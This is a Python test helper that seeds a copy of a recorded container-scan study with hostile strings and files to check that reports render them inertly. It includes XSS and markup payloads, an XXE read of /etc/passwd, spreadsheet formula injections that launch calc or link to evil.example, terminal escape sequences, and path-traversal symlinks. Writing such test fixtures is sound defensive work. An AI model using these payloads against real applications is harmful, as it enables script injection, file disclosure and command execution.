"""A study of hostile files, packages and words."""

import gzip
import json
import re
import shutil
from pathlib import Path

from helpers import paths
from helpers.images import file_inventory
from tests.conftest import file, link, program

NAMES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a\x1b[31mred\x07\r\n",
    "\u202egnp.exe",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "@SUM(A1)",
    "$x_1$ **bold** `code` [x](http://x)",
    "한국어 이름",
    "\\xff\\xfe",
    "x" * 4000,
    ".",
    " ",
)
MATH = "$\\\\href{https://evil.example/t}{x}$"

PAYLOADS = (
    *NAMES,
    # HTML and SVG
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=https://evil.example/e>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import 'https://evil.example/i.css'; * { display: none }</style>",
    "<b style=background:url(https://evil.example/b)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=https://evil.example/v onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example/a'>x</a>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<textarea><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "<!-- --><img src=x onerror=alert(1)><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "<img src=https://evil.example/p.png>",
    "<script src=https://evil.example/s.js></script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](https://evil.example/l)",
    "![x](https://evil.example/i.png)",
    "![x][r]\n\n[r]: https://evil.example/r.png",
    "<https://evil.example/auto>",
    "https://evil.example/bare",
    "www.evil.example",
    "mallory@evil.example",
    "| a | b |\n|---|---|\n| c | d |",
    "a|b\\|c",
    "```\ncode\n```",
    "``` `` `",
    "# heading\n---\n> quote\n- list",
    "<!-- base-image-gate -->",
    "@everyone #1 evil/repo#2 :bomb:",
    "**bold** ~~gone~~ _em_ [ ] [x]",
    "\\[ \\* \\` &#124; &#x60;",
    # MathJax
    "$\\href{https://evil.example/m}{x}$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\[\\require{html}\\style{color:red}{x}\\]",
    "\\begin{equation}\\href{https://evil.example/e}{x}\\end{equation}",
    "$$\\class{x}{\\unicode{x3c}}$$",
    # templates, names and formulas
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s",
    "__proto__",
    "constructor",
    "NaN",
    '=HYPERLINK("https://evil.example/h","x")',
    "-2+3+cmd|'/c calc'!A1",
    "\t=1+1",
    "\uff1d1+1",
    "\uff0b1 \uff0d1 \uff201",
    "x;=1+1",
    '";=1+1;"',
    'x;"=1+1;x',
    # terminals and letters that nobody sees
    "\x1b]8;;https://evil.example/t\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[H\x9b31m",
    "\x1b]0;title\x1b\\ \x08\x08 \r",
    "\u200b\u200d\u2060\ufeffzero",
    "\u2066\u2067\u2069\u061c",
    "\u2028\u2029\x85",
    "\x00\x01",
    "Z\u0351\u036f" * 50,
    "\U000e0041\U000e0042",
)
"""What reports, images, studies, advisories and scores may hold as text, and nothing acts upon."""

HOSTILE = (
    *(program(f"app/{name}", 2_000_000, layer=1, package=name) for name in NAMES),
    *(program(f"bin/{name}", 3_000_000, version=name) for name in NAMES),
    *(file(f"{name}/lib.so", 4_000_000, elf="shared", needed=(name,)) for name in NAMES),
    program("usr/bin/node", 5_000_000, elf_interpreter="/lib/<b>ld</b>.so", needed=("\u202e.so",)),
    link("bin/sh", "bash"),
    link("bin/bash", "sh"),
    link("bin/loop", "/bin/loop/loop"),
    link("lib/a", "../../../../../../etc"),
    file("dev/<b>", kind="char", mode=0o6777),
    file("dev/sda", kind="block", mode=0o4666),
    file("srv/" + "/".join(["d" * 200] * 20), 1),
    file("huge", 2**40, layer=1, uid=2**32, gid=2**32),
    file("empty", 0),
    file("", 7),
)


def spoil(data: Path) -> Path:
    """Put hostile files, findings and words into a copy of a recorded study; return the data."""
    study = data / "studies" / "rebuilt-2026"
    capture = study / "2026-11-24"
    for name in ("node-24-debian", "node-8-distroless"):
        shutil.rmtree(capture / name)
    evidence = capture / "node-24-alpine"
    file_inventory.write(evidence / paths.FILES, sorted(HOSTILE, key=lambda file: file.path))
    image = json.loads((evidence / paths.IMAGE).read_text())
    for layer in image["layers"]:
        layer["size_bytes"] = 2**42
        layer["created_by"] = "RUN <script>alert(2)</script> \x1b[31m \u202e =1+1"
    image.update(user="<b>root</b>", user_id=None, working_directory="/<i>app</i>")
    image.update(entrypoint=["<script>", "'unclosed"], runtime="<u>node</u> 1.0")
    (evidence / paths.IMAGE).write_text(json.dumps(image))
    _spoil_report(evidence / paths.REPORT)
    _spoil_statements(capture / "node-24-distroless")
    _spoil_records(capture)
    text = (study / "study.toml").read_text()
    for name in ("title", "question"):
        text = text.replace(f'{name} = "', f'{name} = "{NAMES[0]}{NAMES[1]}{MATH}', 1)
    # JSON's strings are TOML's as well.
    about = json.dumps("\n\n".join(PAYLOADS), ensure_ascii=False).replace("\x7f", "")
    text = re.sub(
        r'^about = """.*?"""', lambda _: f"about = {about}", text, count=1, flags=re.M | re.S
    )
    (study / "study.toml").write_text(text)
    return data


def _spoil_records(capture: Path) -> None:
    """Let what a capture says of itself be any words, and what it knows of exploitation too."""
    words = " ".join(payload for payload in PAYLOADS if len(payload) < 1000)
    facts = json.loads((capture / paths.CAPTURE).read_text())
    facts["db"].update(coverage=f"partial: {words}", origin=words)
    facts.update(scanner_version=f"0.76 {words}", scanner_is=words, command=[*PAYLOADS])
    for variant in facts["variants"].values():
        variant.update(reference=words, identity=words, builder=words, missing={"smoke": words})
    facts["variants"]["node-8-distroless"].update(status="failed", error=words)
    (capture / paths.CAPTURE).write_text(json.dumps(facts))
    known = json.loads((capture / paths.EXPLOITATION).read_text())
    known["epss"].update(source=words[:500], model=NAMES[1])
    known["epss"]["scores"] |= {name: [0.9, 0.9] for name in NAMES}
    kev = {"version": NAMES[0], "day": "2026-11-24T00:00:00Z", "sha256": words, "entries": 2}
    known["kev"] = {"source": words[-500:], **kev, "added": {PAYLOADS[0]: "2026-01-01"}}
    (capture / paths.EXPLOITATION).write_text(json.dumps(known))


def _spoil_statements(evidence: Path) -> None:
    """Let documents of VEX declare harmless what is found, each in other words.

    Another scanner's report has such packages as well, and how the image started is told in them.
    """
    at = "2026-11-24T00:00:00Z"
    report = json.loads(gzip.decompress((evidence / paths.REPORT).read_bytes()))
    suppressed, documents, statements, matches = [], [], [], []
    for number, word in enumerate(PAYLOADS):
        name, purl = f"CVE-2020-{1000 + number}", f"pkg:npm/x{number}@1"
        found = {"VulnerabilityID": name, "PkgName": word, "PkgIdentifier": {"PURL": purl}}
        told = {"Type": "vulnerability", "Status": "not_affected", "Statement": word}
        suppressed.append({**told, "Source": word, "Finding": found})
        document = {"name": word, "format": "OpenVEX", "author": word, "said_at": at}
        documents.append({**document, "sha256": word, "statements": 1})
        products = [{"id": word}, {"id": purl}]
        said = {"document": word, "ids": [name, word], "status": "not_affected", "said_at": at}
        statements.append({**said, "reason": word, "products": products})
        fix = {"versions": [word], "state": word}
        vulnerability = {"id": word, "namespace": word, "severity": "High", "fix": fix}
        artifact = {"name": word, "version": word, "type": word, "purl": word}
        matches.append({"vulnerability": vulnerability, "artifact": artifact})
    report["Results"][0]["ExperimentalModifiedFindings"] = suppressed
    (evidence / paths.REPORT).write_bytes(gzip.compress(json.dumps(report).encode()))
    vex = {"documents": documents, "statements": statements}
    (evidence / paths.VEX).write_text(json.dumps(vex))
    grype = {"descriptor": {"name": "grype", "version": NAMES[0]}, "matches": matches}
    (evidence / "grype.json").write_text(json.dumps(grype))
    smoke = json.loads((evidence / paths.SMOKE).read_text())
    smoke.update(why=" ".join(NAMES[:8]), asked_by=NAMES[0], shell=NAMES[1])
    (evidence / paths.SMOKE).write_text(json.dumps(smoke))


def _spoil_report(path: Path) -> None:
    """Give every package, version and fix of a report one of the names."""
    report = json.loads(gzip.decompress(path.read_bytes()))
    [result] = [result for result in report["Results"] if result.get("Vulnerabilities")]
    first = result["Vulnerabilities"][0]
    result["Vulnerabilities"] = findings = [{**first} for _ in PAYLOADS]
    packages = [p for result in report["Results"] for p in result.get("Packages", [])]
    for number, finding in enumerate(findings):
        name = PAYLOADS[number % len(PAYLOADS)]
        finding.update(PkgName=name, InstalledVersion=name, FixedVersion=name, PkgPath=name)
        finding["PkgIdentifier"] = {"PURL": name}
        finding["VulnerabilityID"] = f"CVE-{number}-{name}"
    for number, package in enumerate(packages):
        package.update(
            Name=PAYLOADS[number % len(PAYLOADS)], Version=PAYLOADS[-number % len(PAYLOADS)]
        )
    path.write_bytes(gzip.compress(json.dumps(report).encode()))
